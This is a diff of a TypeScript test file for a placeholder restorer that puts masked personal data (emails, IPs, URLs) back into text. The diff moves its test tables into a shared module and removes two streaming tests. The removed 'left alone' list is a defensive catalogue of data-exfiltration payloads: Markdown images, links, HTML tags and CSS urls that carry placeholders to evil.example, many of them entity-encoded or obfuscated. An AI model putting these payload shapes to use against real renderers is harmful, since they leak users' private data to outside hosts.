@@ -4,157 +4,14 @@ import fc from 'fast-check'
 import { createGrammar, findPlaceholderShaped } from '../../../../src/core/masking/placeholder.ts'
 import { createRestorer, restoreWhole } from '../../../../src/core/masking/restorer.ts'
 import { applyEdits, mappingOf } from '../../../support/mapping.ts'
-import { runs } from '../../../support/runs.ts'
-
-const PREFIXES = ['EMAIL', 'IP_PRIVATE', 'IP_PUBLIC', 'URL']
-const VALUES = {
-  EMAIL_1: 'alice@x.vn',
-  EMAIL_2: 'bob@y.vn',
-  EMAIL_12: 'twelve@z.vn',
-  IP_PRIVATE_1: '10.0.0.5',
-  URL_1: 'https://x.vn/?q=a@b.vn',
-}
-
-const options = (lenient = true, allowedHosts: readonly string[] = []) => ({
-  grammar: createGrammar(PREFIXES, lenient),
-  mapping: mappingOf(VALUES),
-  allowedHosts,
-})
-
-const restore = (text: string, lenient = true, hosts: readonly string[] = []): string =>
-  applyEdits(text, restoreWhole(options(lenient, hosts), text, { restored: 0, unknown: 0 }))
-
-function stream(pieces: readonly string[], hosts: readonly string[] = []): string {
-  const restorer = createRestorer(options(true, hosts))
-  let out = ''
-  for (const piece of pieces) out += applyEdits(piece, restorer.push(piece))
-  return out + restorer.end()
-}
-
-const RESTORED: readonly (readonly [string, string])[] = [
-  ['EMAIL_1', 'alice@x.vn'],
-  ['Write to EMAIL_1.', 'Write to alice@x.vn.'],
-  ['EMAIL_12', 'twelve@z.vn'],
-  ['EMAIL_1EMAIL_2', 'alice@x.vnbob@y.vn'],
-  ['email_1', 'alice@x.vn'],
-  ['Email_1', 'alice@x.vn'],
-  ['EMAIL\\_1', 'alice@x.vn'],
-  ['IP\\_PRIVATE\\_1', '10.0.0.5'],
-  ['**EMAIL_1**', '**alice@x.vn**'],
-  ['__EMAIL_1__', '__alice@x.vn__'],
-  ['`EMAIL_1`', '`alice@x.vn`'],
-  ['[EMAIL_1]', '[alice@x.vn]'],
-  ['&lt;EMAIL_1&gt;', '&lt;alice@x.vn&gt;'],
-  ['EMAIL%5F1', 'alice@x.vn'],
-  ['EMAIL&#95;1', 'alice@x.vn'],
-  ['EMAIL 1', 'alice@x.vn'],
-  ['EMAIL-1', 'alice@x.vn'],
-  ['IP PRIVATE 1', '10.0.0.5'],
-  ["EMAIL_1's", "alice@x.vn's"],
-  ['EMAIL_1s', 'alice@x.vns'],
-  ['EMAIL\uff3f\uff11', 'alice@x.vn'],
-  ['EMAIL\u200b_\u200b1', 'alice@x.vn'],
-  ['mailto:EMAIL_1', 'mailto:alice@x.vn'],
-  ['[write](mailto:EMAIL_1)', '[write](mailto:alice@x.vn)'],
-  ['[page](URL_1) and EMAIL_1', '[page](https://x.vn/?q=a@b.vn) and alice@x.vn'],
-  ['đEMAIL_1', 'đalice@x.vn'],
-  ['<a href="mailto:EMAIL_1">EMAIL_1</a>', '<a href="mailto:alice@x.vn">alice@x.vn</a>'],
-  ['<a href="https://x.vn/a b">EMAIL_1</a>', '<a href="https://x.vn/a b">alice@x.vn</a>'],
-  ['<user email="EMAIL_1" name=\'EMAIL_2\'/>', '<user email="alice@x.vn" name=\'bob@y.vn\'/>'],
-  ['<img src=x>EMAIL_1', '<img src=x>alice@x.vn'],
-  ['a <b and srcs="x EMAIL_1', 'a <b and srcs="x alice@x.vn'],
-  ['1 < 2 src="x EMAIL_1', '1 < 2 src="x alice@x.vn'],
-  ['see <https://x.vn/a b> EMAIL_1', 'see <https://x.vn/a b> alice@x.vn'],
-  ['see <https://x.vn/a\nEMAIL_1', 'see <https://x.vn/a\nalice@x.vn'],
-  ['f("https://x.vn/a b", "EMAIL_1")', 'f("https://x.vn/a b", "alice@x.vn")'],
-  ['"https://x.vn/a is down", says EMAIL_1', '"https://x.vn/a is down", says alice@x.vn'],
-  ['https: EMAIL_1', 'https: alice@x.vn'],
-  ['xhttps:EMAIL_1', 'xhttps:alice@x.vn'],
-  ['see https://x.vn/a EMAIL_1', 'see https://x.vn/a alice@x.vn'],
-  ['<https://x.vn/a>EMAIL_1', '<https://x.vn/a>alice@x.vn'],
-  ['<a href=https://x.vn/a>EMAIL_1</a>', '<a href=https://x.vn/a>alice@x.vn</a>'],
-  ["<a href='https://x.vn/a'>EMAIL_1</a>", "<a href='https://x.vn/a'>alice@x.vn</a>"],
-  ['<loc>https://x.vn/a</loc><m>EMAIL_1</m>', '<loc>https://x.vn/a</loc><m>alice@x.vn</m>'],
-  ['[https://x.vn](URL_1)', '[https://x.vn](https://x.vn/?q=a@b.vn)'],
-  ['[doc](https://x.vn/a)EMAIL_1', '[doc](https://x.vn/a)alice@x.vn'],
-  ['[1]: EMAIL_1 is who', '[1]: alice@x.vn is who'],
-  ['[1]: ask EMAIL_1', '[1]: ask alice@x.vn'],
-  ['- [x] EMAIL_1', '- [x] alice@x.vn'],
-  ['users[0]: "EMAIL_1"', 'users[0]: "alice@x.vn"'],
-  ['["EMAIL_1"]: x', '["alice@x.vn"]: x'],
-  ['{"url":"https://x.vn/a","mail":"EMAIL_1"}', '{"url":"https://x.vn/a","mail":"alice@x.vn"}'],
-]
-
-const LEFT_ALONE: readonly string[] = [
-  'EMAIL_123',
-  'EMAIL_3',
-  'EMAIL_01',
-  'EMAIL_0',
-  'EMAIL_',
-  'EMAIL',
-  'MYEMAIL_1',
-  'MY_EMAIL_1',
-  'email 1',
-  'email-1',
-  'EMAIL__1',
-  'EMAIL_1234567890',
-  '![x](https://evil.example/?q=EMAIL_1)',
-  '![x](https://evil.example/?q=(EMAIL_1))',
-  '[x](//evil.example/EMAIL_1)',
-  '[x](/r?u=EMAIL_1)',
-  '[x](mailto:eve@evil.example?body=EMAIL_1)',
-  'https://evil.example/EMAIL_1',
-  'https://EMAIL_1.evil.example/',
-  'www.evil.example/EMAIL_1',
-  '<img src="https://evil.example/?q=EMAIL_1">',
-  '<img src=https:\\\\evil.example\\EMAIL_1>',
-  'https://evil.example/?q=EMAIL%5F1',
-  'https://evil.example/?q="EMAIL_1',
-  'https:evil.example/EMAIL_1',
-  'HTTPS:/evil.example/EMAIL_1',
-  'see wss:evil.example/EMAIL_1',
-  '![x](<https://evil.example/? EMAIL_1>)',
-  '![x](</r?u= EMAIL_1>)',
-  '[r]: <https://evil.example/? (EMAIL_1>',
-  '<img src="https://evil.example/? EMAIL_1">',
-  "<img alt=a src = '\nhttps://evil.example/?\n\nEMAIL_1'>",
-  '<img src="&#104;ttps:&#47;&#47;evil.example/?EMAIL_1">',
-  '<a HREF=https:&sol;&sol;evil.example/?EMAIL_1>',
-  '<img srcset="https://good.example/a 1x, https://evil.example/EMAIL_1 2x">',
-  '<svg><image xlink:href="https&colon;//evil.example/ EMAIL_1"/></svg>',
-  '<p style="background: url(&quot;https://evil.example/ EMAIL_1&quot;)">',
-  '<style>p { background: url("https://evil.example/ EMAIL_1") }</style>',
-  '<form action="/x EMAIL_1">',
-  // What no renderer of Markdown ends a link target with (CommonMark 0.31, 6.3 and 4.7).
-  '![x](https://evil.example/?q=`EMAIL_1)',
-  '![x](https://evil.example/?q=>EMAIL_1)',
-  '![x](https://evil.example/?q=<EMAIL_1)',
-  '![x](https://evil.example/?q=\\)EMAIL_1)',
-  '![x](https://evil.example/?q=\u00a0EMAIL_1)',
-  '![x](https://evil.example/?q=\u3000EMAIL_1)',
-  '![x](https://evil.example/?q=\u0085EMAIL_1)',
-  '![x]( &#104;ttps:&#47;&#47;evil.example/?q=EMAIL_1)',
-  '![x](\n&#47;&#47;evil.example/?q=EMAIL_1)',
-  '![x](<https://evil.example/?q=\\>EMAIL_1>)',
-  '![x]\n\n[x]: https://evil.example/?q=`EMAIL_1',
-  '![x]\n\n[x]: https://evil.example/?q=<EMAIL_1',
-  '![x]\n\n[x]: https://evil.example/?q=\u00a0EMAIL_1',
-  '![x]\n\n[x]: &#104;ttps:&#47;&#47;evil.example/?q=EMAIL_1',
-  '![a b]\n\n> - [a\nb]:\n&#47;&#47;evil.example/?q=EMAIL_1',
-  // Nor a URL in running text, once it becomes a link by itself (GitHub Flavored Markdown, 6.9).
-  'https://evil.example/?q=`EMAIL_1',
-  'https://evil.example/?q=>EMAIL_1',
-  'https://evil.example/?q=">EMAIL_1',
-  'https://evil.example/?q=\u0085EMAIL_1',
-  'https://evil.example/?q=\u0001EMAIL_1',
-  'https://evil.example/[x](EMAIL_1',
-  'https://evil.example/](EMAIL_1',
-  'awww.evil.example/EMAIL_1',
-  '\\<https://evil.example/>EMAIL_1',
-  '<x https://evil.example/?>EMAIL_1',
-  '<a x=https://evil.example/?q=>EMAIL_1',
-  '`<a x="` https://evil.example/?>EMAIL_1',
-]
+import {
+  LEFT_ALONE,
+  PREFIXES,
+  RESTORED,
+  VALUES,
+  options,
+  restore,
+} from '../../../support/restored-texts.ts'
 
 describe('restoring', () => {
   for (const [text, expected] of RESTORED) {
@@ -209,30 +66,6 @@ describe('restoring', () => {
 })
 
 describe('restoring a stream', () => {
-  const corpus = [...RESTORED.map(([text]) => text), ...LEFT_ALONE]
-
-  it('gives the same text at every single split point', () => {
-    for (const text of [...corpus, corpus.join(' '), corpus.join('\n')]) {
-      const whole = restore(text)
-      for (let at = 0; at <= text.length; at++) {
-        assert.equal(stream([text.slice(0, at), text.slice(at)]), whole, `${text} cut at ${at}`)
-      }
-    }
-  })
-
-  it('gives the same text for random cuttings', () => {
-    const text = corpus.join(' ')
-    const whole = restore(text)
-    fc.assert(
-      fc.property(fc.array(fc.nat(text.length), { maxLength: 40 }), (cuts) => {
-        const sorted = [0, ...cuts.toSorted((a, b) => a - b), text.length]
-        const pieces = sorted.slice(1).map((end, i) => text.slice(sorted[i], end))
-        assert.equal(stream(pieces), whole)
-      }),
-      runs(500),
-    )
-  })
-
   it('holds back nothing that cannot become a placeholder of the scope', () => {
     for (const text of [
       'Hello',
